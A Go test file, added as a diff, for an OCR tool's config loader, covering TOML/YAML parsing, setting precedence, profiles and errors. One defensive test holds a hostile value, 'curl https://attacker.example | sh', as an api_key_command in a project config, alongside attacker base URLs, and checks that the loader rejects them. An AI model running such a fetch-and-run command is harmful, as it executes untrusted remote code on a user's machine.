@@ -0,0 +1,417 @@
+package main
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestParseTOML(t *testing.T) {
+	data := []byte(`
+# Default profile
+profile = "gateway"
+retries = 3
+ratio = 0.5
+verbose = true
+formats = ["md", 'json']
+
+[profiles.gateway]  # internal gateway
+base_url = "https://gateway.example.com/v1"
+model = "mistral-ocr-2505"
+
+[profiles."on prem"]
+endpoint = { base_url = "http://ocr.local", model = "local" }
+`)
+
+	cfg, err := parseTOML(data)
+	if err != nil {
+		t.Fatalf("parseTOML failed: %v", err)
+	}
+
+	want := map[string]any{
+		"profile": "gateway",
+		"retries": 3,
+		"ratio":   0.5,
+		"verbose": true,
+		"formats": []any{"md", "json"},
+		"profiles": map[string]any{
+			"gateway": map[string]any{
+				"base_url": "https://gateway.example.com/v1",
+				"model":    "mistral-ocr-2505",
+			},
+			"on prem": map[string]any{
+				"endpoint": map[string]any{"base_url": "http://ocr.local", "model": "local"},
+			},
+		},
+	}
+
+	if !reflect.DeepEqual(cfg, want) {
+		t.Errorf("unexpected result:\n got: %#v\nwant: %#v", cfg, want)
+	}
+}
+
+func TestParseTOML_Errors(t *testing.T) {
+	tests := []string{
+		`key`,
+		`key = "unterminated`,
+		`key = nope`,
+		`[[tables]]`,
+		"a = 1\n[a]",
+	}
+
+	for _, input := range tests {
+		if _, err := parseTOML([]byte(input)); err == nil {
+			t.Errorf("expected error for %q", input)
+		}
+	}
+}
+
+func TestParseYAML(t *testing.T) {
+	data := []byte(`
+# Project settings
+output_dir: out
+output_template: "{name}/{name}"   # one directory per document
+image_metadata: true
+concurrency: 8
+note: 'it''s here'
+formats: [md, "json"]
+tags:
+- a
+- b
+profiles:
+  local:
+    base_url: http://localhost:8080/v1
+    model: ~
+`)
+
+	cfg, err := parseYAML(data)
+	if err != nil {
+		t.Fatalf("parseYAML failed: %v", err)
+	}
+
+	want := map[string]any{
+		"output_dir":      "out",
+		"output_template": "{name}/{name}",
+		"image_metadata":  true,
+		"concurrency":     8,
+		"note":            "it's here",
+		"formats":         []any{"md", "json"},
+		"tags":            []any{"a", "b"},
+		"profiles": map[string]any{
+			"local": map[string]any{"base_url": "http://localhost:8080/v1", "model": nil},
+		},
+	}
+
+	if !reflect.DeepEqual(cfg, want) {
+		t.Errorf("unexpected result:\n got: %#v\nwant: %#v", cfg, want)
+	}
+}
+
+func TestParseYAML_Errors(t *testing.T) {
+	tests := []string{
+		"key value",
+		"a: 1\n  b: 2",
+		"a: 1\na: 2",
+		"a: &anchor 1",
+		"- item",
+	}
+
+	for _, input := range tests {
+		if _, err := parseYAML([]byte(input)); err == nil {
+			t.Errorf("expected error for %q", input)
+		}
+	}
+}
+
+// configFixture writes a user config and a project config and returns the
+// user config directory and a working directory below the project.
+func configFixture(t *testing.T, userTOML, projectYAML string) (string, string) {
+	t.Helper()
+
+	root := t.TempDir()
+	userDir := filepath.Join(root, "xdg")
+	projectDir := filepath.Join(root, "project")
+	workDir := filepath.Join(projectDir, "docs", "scans")
+
+	for _, dir := range []string{filepath.Join(userDir, "ocr"), workDir} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatalf("failed to create %s: %v", dir, err)
+		}
+	}
+
+	if userTOML != "" {
+		if err := os.WriteFile(filepath.Join(userDir, "ocr", "config.toml"), []byte(userTOML), 0644); err != nil {
+			t.Fatalf("failed to write user config: %v", err)
+		}
+	}
+	if projectYAML != "" {
+		if err := os.WriteFile(filepath.Join(projectDir, projectConfigName), []byte(projectYAML), 0644); err != nil {
+			t.Fatalf("failed to write project config: %v", err)
+		}
+	}
+
+	return userDir, workDir
+}
+
+func loadTestConfig(t *testing.T, args []string, env map[string]string, dir string) (*Config, error) {
+	t.Helper()
+
+	fs := flag.NewFlagSet("test", flag.ContinueOnError)
+	defineSettingFlags(fs)
+	if err := fs.Parse(args); err != nil {
+		t.Fatalf("failed to parse flags: %v", err)
+	}
+
+	return loadConfig(fs, func(key string) string { return env[key] }, configDirs{Work: dir})
+}
+
+func TestLoadConfig_Precedence(t *testing.T) {
+	userDir, workDir := configFixture(t, `
+concurrency = 2
+retries = 5
+model = "user-model"
+output_dir = "user-out"
+
+[schemas]
+invoice = "schemas/invoice.json"
+`, `
+concurrency: 3
+model: project-model
+schema: invoice
+image_metadata: true
+`)
+
+	env := map[string]string{
+		"XDG_CONFIG_HOME": userDir,
+		"OCR_MODEL":       "env-model",
+		"OCR_RETRIES":     "7",
+	}
+
+	cfg, err := loadTestConfig(t, []string{"-retries", "9", "-q"}, env, workDir)
+	if err != nil {
+		t.Fatalf("loadConfig failed: %v", err)
+	}
+
+	userFile := filepath.Join(userDir, "ocr", "config.toml")
+	projectFile := filepath.Join(filepath.Dir(filepath.Dir(workDir)), projectConfigName)
+
+	tests := []struct {
+		key    string
+		value  any
+		source string
+	}{
+		{"max_pages", maxPagesPerRequest, "default"},
+		{"output_dir", "user-out", userFile},
+		{"concurrency", 3, projectFile},
+		{"image_metadata", true, projectFile},
+		{"model", "env-model", "env OCR_MODEL"},
+		{"retries", 9, "flag -retries"},
+		{"quiet", true, "flag -q"},
+	}
+
+	for _, tt := range tests {
+		if got := cfg.values[tt.key]; got != tt.value {
+			t.Errorf("%s: expected %v, got %v", tt.key, tt.value, got)
+		}
+		if got := cfg.Source(tt.key); got != tt.source {
+			t.Errorf("%s: expected source %q, got %q", tt.key, tt.source, got)
+		}
+	}
+
+	if want := filepath.Join(userDir, "ocr", "user-out"); cfg.Path("output_dir") != want {
+		t.Errorf("expected output_dir relative to the user config, got %s", cfg.Path("output_dir"))
+	}
+
+	if want := filepath.Join(userDir, "ocr", "schemas", "invoice.json"); cfg.SchemaPath() != want {
+		t.Errorf("expected schema name to resolve to %s, got %s", want, cfg.SchemaPath())
+	}
+}
+
+func TestLoadConfig_Profile(t *testing.T) {
+	userDir, workDir := configFixture(t, `
+profile = "gateway"
+model = "user-model"
+
+[profiles.gateway]
+base_url = "https://gateway/v1"
+model = "gateway-model"
+
+[profiles.onprem]
+base_url = "http://onprem/v1"
+`, "")
+
+	tests := []struct {
+		name                   string
+		args                   []string
+		env                    map[string]string
+		wantBaseURL, wantModel string
+	}{
+		{"config profile", nil, nil, "https://gateway/v1", "gateway-model"},
+		{"env profile", nil, map[string]string{"OCR_PROFILE": "onprem"}, "http://onprem/v1", "user-model"},
+		{"env over profile", nil, map[string]string{"MISTRAL_BASE_URL": "http://env/v1"}, "http://env/v1", "gateway-model"},
+		{"flags over env", []string{"-profile", "onprem", "-model", "flag-model"}, map[string]string{"OCR_MODEL": "env-model"}, "http://onprem/v1", "flag-model"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			env := map[string]string{"XDG_CONFIG_HOME": userDir}
+			for k, v := range tt.env {
+				env[k] = v
+			}
+
+			cfg, err := loadTestConfig(t, tt.args, env, workDir)
+			if err != nil {
+				t.Fatalf("loadConfig failed: %v", err)
+			}
+			if cfg.String("base_url") != tt.wantBaseURL || cfg.String("model") != tt.wantModel {
+				t.Errorf("expected %s %s, got %s %s", tt.wantBaseURL, tt.wantModel, cfg.String("base_url"), cfg.String("model"))
+			}
+		})
+	}
+}
+
+func TestLoadConfig_Errors(t *testing.T) {
+	tests := []struct {
+		name        string
+		userTOML    string
+		projectYAML string
+		args        []string
+		env         map[string]string
+		want        string
+	}{
+		{"unknown profile", "[profiles.gateway]\nmodel = \"m\"", "", []string{"-profile", "missing"}, nil, "available: gateway"},
+		{"unknown key", "colour = \"blue\"", "", nil, nil, `unknown key "colour"`},
+		{"wrong type", "", "concurrency: lots", nil, nil, "expected an integer"},
+		{"bad env", "", "", nil, map[string]string{"OCR_JSON": "maybe"}, "OCR_JSON"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			userDir, workDir := configFixture(t, tt.userTOML, tt.projectYAML)
+			env := map[string]string{"XDG_CONFIG_HOME": userDir}
+			for k, v := range tt.env {
+				env[k] = v
+			}
+
+			_, err := loadTestConfig(t, tt.args, env, workDir)
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("expected error containing %q, got: %v", tt.want, err)
+			}
+		})
+	}
+}
+
+func TestLoadConfig_ProjectRestricted(t *testing.T) {
+	for _, line := range []string{
+		`api_key_command: "curl https://attacker.example | sh"`,
+		"api_key_file: /home/user/.mistral-key",
+		"base_url: https://attacker.example/v1",
+		"provider: openai",
+		"record: /tmp/capture",
+		"replay: /tmp/capture",
+		"profiles:\n  evil:\n    base_url: https://attacker.example/v1",
+	} {
+		userDir, workDir := configFixture(t, "", line+"\n")
+		_, err := loadTestConfig(t, nil, map[string]string{"XDG_CONFIG_HOME": userDir}, workDir)
+		if err == nil || !strings.Contains(err.Error(), "can't be set in a project config file") {
+			t.Errorf("%q: expected the key rejected, got %v", line, err)
+		}
+	}
+
+	// The same keys are fine in the user config.
+	userDir, workDir := configFixture(t, "api_key_command = \"pass show mistral\"\nbase_url = \"https://gateway.example/v1\"\n", "model: pinned\n")
+	cfg, err := loadTestConfig(t, nil, map[string]string{"XDG_CONFIG_HOME": userDir}, workDir)
+	if err != nil || cfg.String("base_url") != "https://gateway.example/v1" || cfg.String("model") != "pinned" {
+		t.Errorf("expected user config keys accepted, got %v", err)
+	}
+}
+
+func TestConfig_Print(t *testing.T) {
+	userDir, workDir := configFixture(t, "", "concurrency: 6\n")
+
+	cfg, err := loadTestConfig(t, []string{"-m"}, map[string]string{"XDG_CONFIG_HOME": userDir}, workDir)
+	if err != nil {
+		t.Fatalf("loadConfig failed: %v", err)
+	}
+
+	var b strings.Builder
+	if err := cfg.Print(&b); err != nil {
+		t.Fatalf("Print failed: %v", err)
+	}
+
+	out := b.String()
+	for _, want := range []string{
+		"concurrency      = 6",
+		projectConfigName,
+		"image_metadata   = true",
+		"# flag -m",
+		`model            = "mistral-ocr-latest"`,
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("expected output to contain %q, got:\n%s", want, out)
+		}
+	}
+}
+
+func TestExpandOutputTemplate(t *testing.T) {
+	now := time.Date(2024, 3, 9, 12, 0, 0, 0, time.UTC)
+
+	tests := []struct {
+		tmpl string
+		want string
+	}{
+		{"", "scan"},
+		{"{name}", "scan"},
+		{"{name}/{name}", filepath.Join("scan", "scan")},
+		{"{date}-{name}.{ext}", "2024-03-09-scan.pdf"},
+	}
+
+	for _, tt := range tests {
+		if got := expandOutputTemplate(tt.tmpl, "/docs/scan.pdf", now); got != tt.want {
+			t.Errorf("%q: expected %q, got %q", tt.tmpl, tt.want, got)
+		}
+	}
+}
+
+func TestUserConfigPath(t *testing.T) {
+	xdg := func(key string) string {
+		if key == "XDG_CONFIG_HOME" {
+			return "/xdg"
+		}
+		return ""
+	}
+	none := func(string) string { return "" }
+
+	for _, tt := range []struct {
+		getenv func(string) string
+		home   string
+		want   string
+	}{
+		{getenv: xdg, home: "/home/me", want: filepath.Join("/xdg", "ocr", "config.toml")},
+		{getenv: none, home: "/home/me", want: filepath.Join("/home/me", ".config", "ocr", "config.toml")},
+		{getenv: none, home: "", want: ""},
+	} {
+		if got := userConfigPath(tt.getenv, tt.home); got != tt.want {
+			t.Errorf("home %q: expected %q, got %q", tt.home, tt.want, got)
+		}
+	}
+}
+
+func TestFindProjectConfig_Stop(t *testing.T) {
+	_, workDir := configFixture(t, "", "model: project-model\n")
+	project := filepath.Dir(filepath.Dir(workDir))
+
+	if got := findProjectConfig(workDir, ""); got != filepath.Join(project, projectConfigName) {
+		t.Errorf("expected the project config found, got %q", got)
+	}
+	if got := findProjectConfig(workDir, project); got != filepath.Join(project, projectConfigName) {
+		t.Errorf("expected the stop directory searched, got %q", got)
+	}
+	if got := findProjectConfig(workDir, filepath.Dir(workDir)); got != "" {
+		t.Errorf("expected the search to stop below the project, got %q", got)
+	}
+}